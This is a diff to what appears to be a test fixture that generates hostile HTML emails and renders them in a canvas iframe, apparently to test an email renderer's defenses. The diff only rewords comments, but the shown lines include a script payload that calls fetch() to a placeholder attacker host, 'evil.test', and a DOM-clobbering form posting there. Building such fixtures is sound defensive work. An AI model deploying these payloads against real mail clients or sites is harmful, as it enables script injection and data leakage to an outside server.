@@ -1,4 +1,4 @@
-/** Stands for the place where everything hostile would lead or load from. */
+/** Placeholder for the attacker's server. */
 const EVIL = 'http://evil.test'
 
 const SCRIPT = `parent.postMessage('ran','*');fetch('${EVIL}/ran')`
@@ -109,7 +109,7 @@ const acts = [
   `<img id="x" name="x"><form id="x" action="${EVIL}/post"><input name="action"></form>`,
 ]
 
-/** Things that stand in the way of the script that shows them. */
+/** Elements that interfere with the canvas script. */
 const obstacles = [
   `<body style="x"">`,
   `<p a"b='c' "'<=1>x</p>`,
@@ -143,7 +143,7 @@ export const hostileEmails = (host: string): string[] => all.map((html) => html.
 
 const headingOf = (index: number) => `Email ${index}`
 
-/** Shows one email after the other on the canvas, each once the one before has been used. Runs in the page. */
+/** Renders the emails on the canvas one after the other, each after interacting with the previous one. Runs in the page. */
 export const showEach = (emails: readonly string[]) => `(async () => {
   const canvas = document.querySelector('iframe[title="Canvas"]').contentWindow
   const pages = ${JSON.stringify(emails.map((email, index) => pageOf(headingOf(index), email)))}
